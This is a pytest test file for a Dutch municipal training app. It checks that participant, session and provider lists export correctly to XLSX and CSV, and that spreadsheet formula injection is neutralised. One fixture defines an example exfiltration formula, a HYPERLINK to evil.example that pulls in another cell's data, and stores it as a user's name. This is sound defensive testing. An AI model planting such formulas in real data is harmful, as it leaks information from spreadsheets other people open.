"""Participant lists as XLSX and as CSV the way Dutch Excel opens it, parsed back."""

import csv
import io

import pytest
from django.core import mail
from openpyxl import load_workbook

from academy_pages import registration as workflow
from academy_pages.models import Attendance, Registration
from tests.academy_pages.admin_support import participants_url
from tests.factories.academy import SessionFactory, TrainingProviderFactory, register
from tests.factories.people import EmployeeProfileFactory, TeamFactory, UserFactory

pytestmark = pytest.mark.django_db

HEADINGS = ["Naam", "E-mail", "Team", "Status", "Aanwezigheid", "Ingeschreven op"]


@pytest.fixture
def session(course):
    session = SessionFactory(course=course, capacity=2)
    people = [
        UserFactory(username="s.celik", first_name="Şeyma", last_name="Çelik"),
        UserFactory(username="j.vdberg", first_name="Jan", last_name="van den Berg; jr."),
        UserFactory(username="p.smit", first_name="Piet", last_name="Smit"),
    ]
    finance = TeamFactory(name="Team Financiën")
    for user in people:
        EmployeeProfileFactory(user=user, team=finance)
        workflow.register(session, user)
    first = Registration.objects.get(user=people[0])
    first.attendance = Attendance.PRESENT
    first.save()
    return session


def test_xlsx_export_has_everyone_with_status_and_attendance(editor_client, session):
    response = editor_client.get(f"{participants_url(session)}export/xlsx/")

    assert response.status_code == 200
    assert response["Content-Type"] == "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
    assert 'attachment; filename="deelnemers-' in response["Content-Disposition"]
    sheet = load_workbook(io.BytesIO(response.content)).active
    rows = [[cell if cell is not None else "" for cell in row] for row in sheet.iter_rows(values_only=True)]
    assert rows[0] == HEADINGS
    assert [row[:5] for row in rows[1:]] == [
        ["Şeyma Çelik", "s.celik@westbetuwe.nl", "Team Financiën", "Ingeschreven", "Aanwezig"],
        ["Jan van den Berg; jr.", "j.vdberg@westbetuwe.nl", "Team Financiën", "Ingeschreven", ""],
        ["Piet Smit", "p.smit@westbetuwe.nl", "Team Financiën", "Op de wachtlijst", ""],
    ]


def test_csv_export_uses_semicolons_and_a_byte_order_mark(editor_client, session):
    response = editor_client.get(f"{participants_url(session)}export/csv/")

    assert response.status_code == 200
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    assert response.content.startswith(b"\xef\xbb\xbf")
    text = response.content.decode("utf-8-sig")
    assert text.splitlines()[0] == ";".join(HEADINGS)
    rows = list(csv.reader(io.StringIO(text), delimiter=";"))
    assert rows[0] == HEADINGS
    # A semicolon inside a value is quoted, so the columns stay intact.
    assert rows[2][:4] == [
        "Jan van den Berg; jr.",
        "j.vdberg@westbetuwe.nl",
        "Team Financiën",
        "Ingeschreven",
    ]
    assert [row[0] for row in rows[1:]] == ["Şeyma Çelik", "Jan van den Berg; jr.", "Piet Smit"]


def test_unknown_export_format_is_not_found(editor_client, session):
    assert editor_client.get(f"{participants_url(session)}export/pdf/").status_code == 404


def test_employees_cannot_download_the_list(employee_client, session):
    response = employee_client.get(f"{participants_url(session)}export/csv/")
    assert response.status_code == 302
    assert b"Piet Smit" not in response.content


ATTACK = '=HYPERLINK("https://evil.example/?d="&B3,"Klik hier")'


@pytest.fixture
def attacked_session(course):
    """A session where one employee's account name is a spreadsheet formula."""
    session = SessionFactory(course=course)
    register(session, UserFactory(username="aanvaller", first_name=ATTACK, last_name=""))
    register(session, UserFactory(username="collega", first_name="Piet", last_name="Smit"))
    return session


def test_a_formula_as_name_is_inert_text_in_the_xlsx(editor_client, attacked_session):
    response = editor_client.get(f"{participants_url(attacked_session)}export/xlsx/")

    sheet = load_workbook(io.BytesIO(response.content)).active
    cell = sheet["A2"]
    assert cell.value == ATTACK
    assert cell.data_type == "s"  # a string, not "f" (formula)
    assert cell.quotePrefix is True
    assert sheet["A3"].value == "Piet Smit" and not sheet["A3"].quotePrefix


def test_a_formula_as_name_is_quoted_in_the_csv(editor_client, attacked_session):
    response = editor_client.get(f"{participants_url(attacked_session)}export/csv/")

    rows = list(csv.reader(io.StringIO(response.content.decode("utf-8-sig")), delimiter=";"))
    assert rows[1][0] == "'" + ATTACK
    assert rows[2][0] == "Piet Smit"


def test_the_list_mailed_to_the_provider_holds_the_formula_as_inert_text(editor_client, attacked_session):
    editor_client.post(participants_url(attacked_session), {"action": "mail_provider"})

    ((_filename, content, _type),) = mail.outbox[0].attachments
    cell = load_workbook(io.BytesIO(content)).active["A2"]
    assert (cell.value, cell.data_type, cell.quotePrefix) == (ATTACK, "s", True)


def test_session_and_provider_lists_export_formula_like_text_as_inert_text(editor_client, course):
    course.provider = TrainingProviderFactory(name="@Bureau West", email="=info@bureau.example")
    course.save()
    SessionFactory(course=course, title="-Presenteren voor gevorderden", capacity=12)

    response = editor_client.get("/admin/academy/sessions/", {"export": "xlsx"})
    assert response.status_code == 200
    title, _offering, first_date, capacity, *_rest = next(
        load_workbook(io.BytesIO(response.content)).active.iter_rows(min_row=2)
    )
    assert title.value.startswith("-Presenteren") and title.data_type == "s" and title.quotePrefix
    assert (capacity.value, capacity.data_type) == (12, "n")
    assert first_date.data_type == "d"

    response = editor_client.get("/admin/academy/sessions/", {"export": "csv"})
    rows = list(csv.reader(io.StringIO(response.content.decode("utf-8-sig")), delimiter=";"))
    assert rows[1][0].startswith("'-Presenteren")

    response = editor_client.get("/admin/academy/providers/", {"export": "csv"})
    rows = list(csv.reader(io.StringIO(response.content.decode("utf-8-sig")), delimiter=";"))
    assert rows[1][:2] == ["'@Bureau West", "'=info@bureau.example"]
    response = editor_client.get("/admin/academy/providers/", {"export": "xlsx"})
    name = load_workbook(io.BytesIO(response.content)).active["A2"]
    assert (name.value, name.data_type, name.quotePrefix) == ("@Bureau West", "s", True)
